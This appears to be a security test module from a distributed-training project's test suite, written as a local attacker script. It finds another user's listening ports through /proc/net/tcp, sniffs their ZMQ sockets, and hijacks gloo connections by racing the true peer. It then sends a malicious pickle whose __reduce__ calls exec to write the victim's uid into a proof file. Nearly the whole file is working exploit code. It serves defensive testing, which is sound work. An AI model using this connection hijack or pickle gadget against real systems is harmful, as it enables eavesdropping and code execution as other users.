"""What another user tries: `python -m tests.security.attackers NAME UID`, as that user.

All that is known of the victim is its number, UID, and with it what /proc/net/tcp tells everybody.
"""

from __future__ import annotations

import contextlib
import pickle
import select
import socket
import struct
import sys
import threading
import time
from collections import Counter
from pathlib import Path
from typing import Any

import zmq
from zmq.utils.monitor import parse_monitor_message

from tests.security.lines import serve

_LISTEN = b" 0A "
_TCP = Path("/proc/net/tcp")
_GIVEN_AWAY = Path("/proc/sys/net/ipv4/ip_local_port_range")  # gloo's listeners have such ports
_DONE = zmq.EVENT_HANDSHAKE_SUCCEEDED
_SETTLED = (
    _DONE
    | zmq.EVENT_HANDSHAKE_FAILED_NO_DETAIL
    | zmq.EVENT_HANDSHAKE_FAILED_PROTOCOL
    | zmq.EVENT_HANDSHAKE_FAILED_AUTH
    | zmq.EVENT_DISCONNECTED  # by who takes no such socket
    | zmq.EVENT_CONNECT_RETRIED  # nobody has opened
)
_HANDSHAKE_MS = 2000  # who has not answered by then does not speak ZMQ
_EVENTS_KEPT = 400
_KNOCK_S = 0.1  # then it tries anew
_NUMBERS = 16  # of gloo's connections, from 0 on


def ports_of(uid: int) -> set[int]:
    """The ports that a user listens at, as everybody may know."""
    rows = (line.split() for line in _TCP.read_bytes().splitlines() if line[33:37] == _LISTEN)
    return {int(row[1][-4:], 16) for row in rows if int(row[7]) == uid}


# ---- ZMQ --------------------------------------------------------------------------------------


class Sniffer(threading.Thread):
    """Subscribes to everything on each port, also on those that come later.

    `heard` counts messages by port, `kept` has the last ones. `settled` are the ports where it is
    clear whether it is let in, `admitted` those where it is.
    """

    def __init__(self, uid: int) -> None:
        super().__init__(daemon=True)
        self.heard: Counter[int] = Counter()
        self.kept: list[tuple[int, list[bytes]]] = []
        self.settled: set[int] = set()
        self.admitted: set[int] = set()
        self._uid = uid
        self.start()

    def run(self) -> None:
        """Until the process ends."""
        context, poller = zmq.Context(), zmq.Poller()
        ports: dict[zmq.Socket[bytes], int] = {}
        monitors: dict[zmq.Socket[bytes], int] = {}
        while True:
            for port in ports_of(self._uid) - set(ports.values()):
                subscriber = context.socket(zmq.SUB)
                subscriber.setsockopt(zmq.SUBSCRIBE, b"")
                monitor = _connect(subscriber, port)
                ports[subscriber], monitors[monitor] = port, port
                poller.register(subscriber, zmq.POLLIN)
                poller.register(monitor, zmq.POLLIN)
            for ready, _ in poller.poll(100):
                parts = ready.recv_multipart()
                if ready in monitors:
                    self.settled.add(monitors[ready])
                    if parse_monitor_message(parts)["event"] == _DONE:
                        self.admitted.add(monitors[ready])
                    continue
                self.heard[ports[ready]] += 1
                self.kept = [*self.kept[-_EVENTS_KEPT:], (ports[ready], parts)]


def _connect(one: zmq.Socket[bytes], port: int) -> zmq.Socket[bytes]:
    """Connect; the socket that is returned tells once whether anything can come of it."""
    one.setsockopt(zmq.HANDSHAKE_IVL, _HANDSHAKE_MS)
    one.setsockopt(zmq.CONNECT_TIMEOUT, _HANDSHAKE_MS)
    one.setsockopt(zmq.RECONNECT_IVL, 1000)
    monitor = one.get_monitor_socket(_SETTLED)
    one.connect(f"tcp://127.0.0.1:{port}")
    return monitor


# ---- gloo --------------------------------------------------------------------------------------

_PREAMBLE = struct.Struct("<6Q")  # bytes, operation, slot, offset, length, offset there
_SEND, _READY_TO_SEND, _READY_TO_RECEIVE = range(1, 4)


class Hijacker(threading.Thread):
    """Connects to each listener before the true peer does, and speaks gloo to who answers.

    It knocks again and again where nobody opens, and where it was thrown out. It takes what is
    sent, and hands over a pickle that leaves the file `proof` when it is read.
    """

    def __init__(self, uid: int, proof: str) -> None:
        super().__init__(daemon=True)
        self.read: list[str] = []  # what the victim has sent
        self.knocked = 0  # connections that it has begun, and had
        self.looked = 0
        self.over = threading.Event()
        self._evil = pickle.dumps(_Evil(proof))
        self._uid = uid
        self._low = int(_GIVEN_AWAY.read_text().split()[0])
        self._poll = select.epoll()
        self._sockets: dict[int, socket.socket] = {}
        self._held: dict[tuple[int, int], tuple[int, float]] = {}  # port, number -> socket, since
        self._knocking: dict[int, int] = {}
        self._open: dict[int, bytes] = {}
        self._handed: dict[int, list[int]] = {}
        self.start()

    def run(self) -> None:
        """Until `over` is set."""
        while not self.over.is_set():
            now = time.monotonic()
            for port in ports_of(self._uid):
                if port >= self._low:
                    self._knock(port, now)
            self.looked += 1
            for fd, event in self._poll.poll(0):
                if fd in self._knocking and event & select.EPOLLOUT:
                    self._enter(fd, self._knocking.pop(fd))
                elif fd in self._open:
                    self._listen(fd)
        for one in self._sockets.values():
            one.close()

    def _knock(self, port: int, now: float) -> None:
        for number in range(_NUMBERS):
            fd, since = self._held.get((port, number), (-1, 0.0))
            if fd in self._open or (fd in self._knocking and now < since + _KNOCK_S):
                continue
            self._drop(fd)
            one = socket.socket(type=socket.SOCK_STREAM | socket.SOCK_NONBLOCK)
            with contextlib.suppress(BlockingIOError):
                one.connect(("127.0.0.1", port))
            fd = one.fileno()
            self.knocked += 1
            self._sockets[fd], self._knocking[fd] = one, number
            # each at a time of its own, so that one comes soon after a door is opened
            self._held[port, number] = fd, now + _KNOCK_S * number / _NUMBERS
            self._poll.register(fd, select.EPOLLOUT)

    def _enter(self, fd: int, number: int) -> None:
        try:
            self._sockets[fd].sendall(struct.pack("<q", number))
        except OSError:
            self._drop(fd)
            return
        self._open[fd] = b""
        self._poll.modify(fd, select.EPOLLIN)

    def _listen(self, fd: int) -> None:
        one = self._sockets[fd]
        try:
            data = one.recv(1 << 16)
            if data:
                one.setblocking(True)  # for what is sent
                self._open[fd] = self._answer(one, self._open[fd] + data)
                one.setblocking(False)
                return
        except OSError:
            pass
        self._drop(fd)

    def _drop(self, fd: int) -> None:
        self._open.pop(fd, None)
        self._knocking.pop(fd, None)
        self._handed.pop(fd, None)
        if one := self._sockets.pop(fd, None):
            one.close()

    def _answer(self, one: socket.socket, data: bytes) -> bytes:
        while len(data) >= _PREAMBLE.size:
            size, operation, slot, offset, length, there = _PREAMBLE.unpack(data[:48])
            if operation == _SEND:
                if len(data) < size:
                    break
                self.read.append(repr(data[48:size][:200]))
                data = data[size:]
                continue
            data = data[48:]
            if operation == _READY_TO_SEND:
                one.sendall(_PREAMBLE.pack(48, _READY_TO_RECEIVE, slot, offset, length, there))
            elif operation == _READY_TO_RECEIVE:
                content = self._content(one, length)
                one.sendall(_PREAMBLE.pack(48, _READY_TO_SEND, slot, offset, length, there))
                size = _PREAMBLE.size + length
                one.sendall(_PREAMBLE.pack(size, _SEND, slot, offset, length, there) + content)
        return data

    def _content(self, one: socket.socket, length: int) -> bytes:
        """As `all_gather_object` has it: the size of the pickle, an answer, the pickle."""
        handed = self._handed.setdefault(one.fileno(), [0, 0])
        handed[0] += 1
        if handed[0] <= 2:
            size = struct.pack("<q", len(self._evil)) if handed[0] == 1 else b""
            return size.ljust(length, b"\0")[:length]
        start, handed[1] = handed[1], handed[1] + length
        return self._evil[start : start + length].ljust(length, b"\0")


class _Evil:
    def __init__(self, proof: str) -> None:
        self._proof = proof

    def __reduce__(self) -> Any:
        return exec, (f"import os; open({self._proof!r}, 'a').write(str(os.getuid()) + ' ')",)


# ---- what each does when it is told ----------------------------------------------------------


def sniffer(uid: int) -> None:
    """Listens."""
    one = Sniffer(uid)

    def report() -> dict[str, Any]:
        kept = [" ".join(map(repr, parts))[:300] for _, parts in one.kept[-3:]]
        settled, admitted = sorted(one.settled), sorted(one.admitted)
        return {"heard": one.heard, "settled": settled, "admitted": admitted, "kept": kept}

    serve({"report": report})


def hijacker(uid: int, proof: str) -> None:
    """Takes the place of ranks."""
    one = Hijacker(uid, proof)

    def report() -> dict[str, Any]:
        return {"looked": one.looked, "knocked": one.knocked, "read": one.read[-5:]}

    serve({"report": report})
    one.over.set()
    one.join()


if __name__ == "__main__":
    attackers: dict[str, Any] = {"sniffer": sniffer, "hijacker": hijacker}
    attackers[sys.argv[1]](int(sys.argv[2]), *sys.argv[3:])
